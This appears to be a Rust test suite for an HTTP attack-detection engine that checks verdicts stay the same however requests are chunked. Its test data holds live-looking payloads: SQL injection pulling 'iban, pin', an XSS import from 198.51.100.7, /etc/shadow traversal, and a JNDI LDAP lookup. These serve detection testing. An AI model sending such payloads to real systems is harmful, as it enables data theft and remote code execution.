//! Chunking does not matter: however the same bytes are cut, the engine says the same. And more bytes never withdraw
//! a finding.

mod engine;

use engine::{Outcome, Sender, label, requests, streams, through_connection, through_transaction};
use proptest::prelude::*;
use sidewatch::http::Messages;
use sidewatch::{Anomaly, Engine};
use std::collections::BTreeSet;

/// Most cuts of a long request that are tried one by one.
const CUTS: usize = 160;

/// Where to cut: everywhere, or in a long request around each byte that means something and at even distances.
fn cuts(bytes: &[u8]) -> Vec<usize> {
    let step = bytes.len() / CUTS + 1;
    let telling = |at: usize| {
        let near = &bytes[at.saturating_sub(1)..(at + 1).min(bytes.len())];
        near.iter().any(|b| b"\r\n'&=<>{}\"%".contains(b))
    };
    (0..=bytes.len()).filter(|&at| at % step == 0 || bytes.len() < 4000 && telling(at)).collect()
}

#[test]
fn every_case_is_found_as_it_says() {
    let engine = Engine::default();
    let mut transaction = engine.transaction();
    let (mut wrong, mut names) = (Vec::new(), BTreeSet::new());
    for case in requests() {
        assert!(!case.why.is_empty() && names.insert(case.name.clone()), "{}", case.name);
        let bytes = case.bytes();
        let told = through_transaction(&mut transaction, &[&bytes]);
        if let Some(what) = told.differs(&case.verdict, &case.found, &case.anomalies) {
            wrong.push(format!("{}: {what}", case.name));
        }
        let told = through_connection(&engine, [(Sender::Client, &bytes[..])]);
        let verdict = told.iter().map(|t| t.verdict).max().unwrap_or_default();
        assert_eq!(verdict.name(), case.verdict, "{}: a connection says otherwise: {told:#?}", case.name);
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn every_connection_is_told_as_it_says() {
    let engine = Engine::default();
    let mut names = BTreeSet::new();
    for case in streams() {
        assert!(!case.why.is_empty() && names.insert(case.name.clone()), "{}", case.name);
        let mut connection = engine.connection();
        for (sender, bytes) in case.bytes() {
            match sender {
                Sender::Client => connection.client(bytes),
                Sender::Server => connection.server(bytes),
            }
        }
        connection.client_close();
        connection.server_close();
        let told = engine::outcomes(&mut connection);
        assert_eq!(told.len(), case.transaction.len(), "{}: {told:#?}", case.name);
        for ((outcome, target, status), want) in told.iter().zip(&case.transaction) {
            assert_eq!((target, status), (&want.target, &want.status), "{}", case.name);
            let differs = outcome.differs(&want.verdict, &want.found, &want.anomalies);
            assert!(differs.is_none(), "{}: {}", case.name, differs.unwrap_or_default());
        }
    }
}

#[test]
fn a_request_cut_anywhere_is_judged_the_same() {
    let engine = Engine::default();
    let mut transaction = engine.transaction();
    for case in requests() {
        let bytes = case.bytes();
        let whole = through_transaction(&mut transaction, &[&bytes]);
        for at in cuts(&bytes) {
            let (a, b) = bytes.split_at(at);
            assert_eq!(through_transaction(&mut transaction, &[a, b]), whole, "{}: cut at {at}", case.name);
        }
        let single: Vec<&[u8]> = bytes.chunks(1).collect();
        assert_eq!(through_transaction(&mut transaction, &single), whole, "{}: byte by byte", case.name);
    }
}

#[test]
fn a_request_that_breaks_off_is_judged_the_same_byte_by_byte() {
    let mut transaction = Engine::default().transaction();
    for case in requests() {
        let bytes = case.bytes();
        for at in cuts(&bytes).into_iter().filter(|at| *at < 2000).step_by(5) {
            let bytes = &bytes[..at];
            let single: Vec<&[u8]> = bytes.chunks(1).collect();
            let whole = through_transaction(&mut transaction, &[bytes]);
            let told = through_transaction(&mut transaction, &single);
            assert_eq!(told, whole, "{}: ends at {at}", case.name);
        }
    }
}

#[test]
fn a_value_that_has_ended_is_judged_before_more_comes() {
    let mut transaction = Engine::default().transaction();
    let (sql, json) =
        ("1%27+union+all+select+iban%2C+pin+from+ledger--", r#"1' union all select iban, pin from ledger--"#);
    let more = "plain words ".repeat(8).replace(' ', "");
    for (kind, body) in [
        ("application/x-www-form-urlencoded", format!("a={more}&q={sql}&")),
        ("application/json", format!(r#"{{"a": "b, {more}", "q": "{json}"}}"#)),
        ("application/json", format!(r#"{{"b": "{more}", "a": [1, "{json}"]"#)),
        ("application/xml", format!("<a><b>{more}</b><q>{json}</q>")),
        (
            "multipart/form-data; boundary=b",
            format!("--b\r\nContent-Disposition: form-data; name=q\r\n\r\n{json} {more}\r\n--b\r\n"),
        ),
    ] {
        for size in [1, 7, 64, 1000] {
            transaction.reset();
            let head = format!(
                "POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Type: {kind}\r\nContent-Length: 9000\r\n\r\n"
            );
            let bytes = [head.as_bytes(), body.as_bytes()].concat();
            bytes.chunks(size).for_each(|piece| transaction.request_bytes(piece));
            assert_eq!(transaction.verdict().name(), "attack", "{kind}, {size} bytes at a time");
        }
    }
}

#[test]
fn a_connection_cut_anywhere_is_judged_the_same() {
    let engine = Engine::default();
    for case in requests() {
        let bytes = case.bytes();
        let client = |pieces: &[&[u8]]| {
            let pieces: Vec<_> = pieces.iter().map(|p| (Sender::Client, *p)).collect();
            through_connection(&engine, pieces)
        };
        let whole = client(&[&bytes]);
        for at in cuts(&bytes) {
            let (a, b) = bytes.split_at(at);
            assert_eq!(client(&[a, b]), whole, "{}: cut at {at}", case.name);
        }
        let single: Vec<&[u8]> = bytes.chunks(1).collect();
        assert_eq!(client(&single), whole, "{}: byte by byte", case.name);
    }
}

#[test]
fn both_directions_cut_anywhere_are_judged_the_same() {
    let engine = Engine::default();
    for case in streams() {
        let parts = case.bytes();
        let whole = through_connection(&engine, parts.clone());
        for (i, &(sender, bytes)) in parts.iter().enumerate() {
            for at in 0..=bytes.len() {
                let (a, b) = bytes.split_at(at);
                let mut cut = parts.clone();
                cut.splice(i..=i, [(sender, a), (sender, b)]);
                assert_eq!(through_connection(&engine, cut), whole, "{}: part {i} cut at {at}", case.name);
            }
        }
        let single = parts.iter().flat_map(|&(sender, bytes)| bytes.chunks(1).map(move |b| (sender, b)));
        assert_eq!(through_connection(&engine, single), whole, "{}: byte by byte", case.name);
    }
}

#[test]
fn more_bytes_withdraw_nothing() {
    let mut transaction = Engine::default().transaction();
    for case in requests() {
        transaction.reset();
        let (mut known, mut number) = (BTreeSet::new(), 0);
        let (mut verdict, mut odd) = (transaction.verdict(), BTreeSet::new());
        let bytes = case.bytes();
        let pieces = bytes.chunks(bytes.len() / 4000 + 1).map(Some).chain([None]);
        for piece in pieces {
            match piece {
                Some(piece) => transaction.request_bytes(piece),
                None => transaction.request_end(),
            }
            let anomalies: BTreeSet<Anomaly> = transaction.anomalies().iter().collect();
            assert!(odd.is_subset(&anomalies), "{}: an anomaly is gone", case.name);
            odd = anomalies;
            assert!(transaction.verdict() >= verdict, "{}: the verdict fell", case.name);
            verdict = transaction.verdict();
            let findings = transaction.findings();
            if findings.len() != number || piece.is_none() {
                let now: BTreeSet<_> =
                    findings.iter().map(|f| (label(f), f.technique, f.offset, f.length)).collect();
                assert!(now.is_superset(&known), "{}: {known:#?} became {now:#?}", case.name);
                (known, number) = (now, findings.len());
            }
        }
        let order: Vec<_> =
            transaction.findings().iter().map(|f| (f.point.clone(), f.offset, f.class)).collect();
        assert!(order.is_sorted(), "{}: {order:?}", case.name);
    }
}

/// Two of the cases' bodies one after the other in one form: many values, several findings.
fn several() -> Vec<u8> {
    let body = concat!(
        "a=1%27+union+all+select+iban%2C+pin+from+ledger--+&b=%3Csvg+onload%3Dimport%28%27%2F%2F198.51.100.7%2Fm.js%27%29%3E",
        "&c=..%2f..%2f..%2f..%2fetc%2fshadow&d=$%7Bjndi:ldap://198.51.100.7/o%7D&a=2&e=plain+words"
    );
    let head = format!(
        "POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body.as_bytes()].concat()
}

/// `bytes` in the pieces that `at` cuts them into.
fn pieces<'a>(bytes: &'a [u8], at: &[prop::sample::Index]) -> Vec<&'a [u8]> {
    let mut cuts: Vec<usize> = at.iter().map(|i| i.index(bytes.len() + 1)).collect();
    cuts.extend([0, bytes.len()]);
    cuts.sort_unstable();
    cuts.windows(2).map(|w| &bytes[w[0]..w[1]]).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(64) })]

    #[test]
    fn random_cuts_are_judged_the_same(
        case in any::<prop::sample::Index>(),
        at in prop::collection::vec(any::<prop::sample::Index>(), 1..12),
    ) {
        let engine = Engine::default();
        let mut transaction = engine.transaction();
        let mut all: Vec<Vec<u8>> = requests().iter().map(engine::Request::bytes).collect();
        all.push(several());
        let bytes = case.get(&all);
        let whole = through_transaction(&mut transaction, &[bytes]);
        let cut = pieces(bytes, &at);
        prop_assert_eq!(&through_transaction(&mut transaction, &cut), &whole);
        let client = |pieces: &[&[u8]]| -> Vec<Outcome> {
            let pieces: Vec<_> = pieces.iter().map(|p| (Sender::Client, *p)).collect();
            through_connection(&engine, pieces)
        };
        prop_assert_eq!(client(&cut), client(&[bytes]));
    }
}
